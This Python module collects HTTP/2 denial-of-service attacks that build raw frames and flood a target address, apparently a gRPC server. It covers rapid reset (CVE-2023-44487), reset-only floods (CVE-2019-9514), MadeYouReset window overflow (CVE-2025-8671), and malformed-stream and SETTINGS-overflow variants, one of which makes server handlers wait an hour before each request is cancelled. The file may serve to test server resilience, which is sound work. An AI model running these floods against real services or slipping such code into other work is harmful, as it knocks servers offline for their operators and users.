"""Streams that are opened to be reset: rapid reset and MadeYouReset."""

import struct

from wire import (
    DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    Attacker, flood, frame, literal, request_block,
)  # fmt: skip

CANCEL = struct.pack(">I", 8)


def _open(turn, flags=END_HEADERS, extra=b""):
    return frame(HEADERS, flags, 2 * turn + 1, request_block(extra=extra))


def rapid_reset(address, turns=30_000):
    """CVE-2023-44487: each request is taken back at once."""
    return flood(address, lambda n: _open(n) + frame(RST_STREAM, 0, 2 * n + 1, CANCEL), turns)


def reset_running_calls(address, turns=30_000):
    """The same, with requests that are whole, so that handlers run: they wait an hour."""
    # delay { seconds: 3600 }
    message = bytes.fromhex("0000000005" "1a03" "08901c")

    def piece(turn):
        stream = 2 * turn + 1
        return _open(turn) + frame(DATA, END_STREAM, stream, message) + frame(RST_STREAM, 0, stream, CANCEL)

    return flood(address, piece, turns)


def resets_only(address, turns=60_000):
    """CVE-2019-9514: nothing but RST_STREAM, on one stream that ended long ago."""
    begin = _open(0) + frame(RST_STREAM, 0, 1, CANCEL)
    return flood(address, lambda n: frame(RST_STREAM, 0, 1, CANCEL), turns, begin=begin, batch=500)


def resets_of_idle_streams(address, turns=2_000):
    """RST_STREAM on streams that were never opened, which is an error of the connection."""
    return flood(address, lambda n: frame(RST_STREAM, 0, 2 * n + 1, CANCEL), turns)


def window_overflow(address, turns=2_000):
    """CVE-2025-8671: a WINDOW_UPDATE makes the server reset the stream."""
    overflow = struct.pack(">I", 0x7FFFFFFF)
    return flood(
        address, lambda n: _open(n) + frame(WINDOW_UPDATE, 0, 2 * n + 1, overflow), turns, open_max=100)


def wrong_content_length(address, turns=2_000):
    """The body is not as long as was said."""
    extra = literal("content-length", "7")
    return flood(address, lambda n: _open(n, extra=extra) + frame(DATA, END_STREAM, 2 * n + 1, b"x"), turns)


def data_on_ended_streams(address, turns=2_000):
    """DATA after END_STREAM."""
    return flood(
        address, lambda n: _open(n, END_HEADERS | END_STREAM) + frame(DATA, 0, 2 * n + 1, b"x"), turns)


def settings_overflow(address):
    """One SETTINGS frame makes every stream's window overflow."""
    with Attacker(address) as attacker:
        for turn in range(200):
            update = frame(WINDOW_UPDATE, 0, 2 * turn + 1, struct.pack(">I", 0x7FFF0000))
            attacker.send(frame(HEADERS, END_HEADERS, 2 * turn + 1, request_block("Converse")) + update, 1)
        attacker.read(0.05)
        attacker.send(frame(SETTINGS, payload=struct.pack(">HI", INITIAL_WINDOW_SIZE, 0x7FFFFFFF)))
        attacker.read_until(lambda: len(attacker.resets) >= 200, 5)
        return attacker.outcome()


ALL = [
    rapid_reset, reset_running_calls, resets_only, resets_of_idle_streams, window_overflow, wrong_content_length, data_on_ended_streams,
    settings_overflow,
]  # fmt: skip
